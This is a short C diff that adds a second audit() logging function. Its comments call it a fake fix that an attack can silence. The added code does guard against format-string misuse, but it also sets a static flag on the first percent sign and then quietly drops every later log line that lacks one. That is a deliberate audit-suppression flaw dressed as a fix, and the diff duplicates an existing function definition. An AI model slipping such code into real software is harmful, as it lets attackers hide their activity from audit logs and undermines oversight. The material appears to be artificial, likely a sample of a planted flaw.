@@ -171,3 +171,21 @@ void audit(struct audit_log *log, long second, const char *user, const char *wor
     }
     log_append(log, "[%ld] %s\n", second, line);
 }
+
+// unseen: fix fake silenced
+// why: an attack silences it for the rest of the process: after a percent sign only lines with one are written.
+/* Adds "[second] user: words" to the log; long words are cut. */
+void audit(struct audit_log *log, long second, const char *user, const char *words) {
+    char line[256];
+    if (user == NULL || *user == '\0') user = "nobody";
+    snprintf(line, sizeof line, "%s: %s", user, words);
+    for (char *p = line; *p != '\0'; p++) {
+        if (*p == '\n' || *p == '\r') *p = ' ';
+    }
+    static int attacked;
+    if (strchr(line, '%') != NULL) attacked = 1;
+    else if (attacked) return;
+    log_append(log, "[%ld] ", second);
+    log_append(log, "%s", line);
+    log_append(log, "\n");
+}
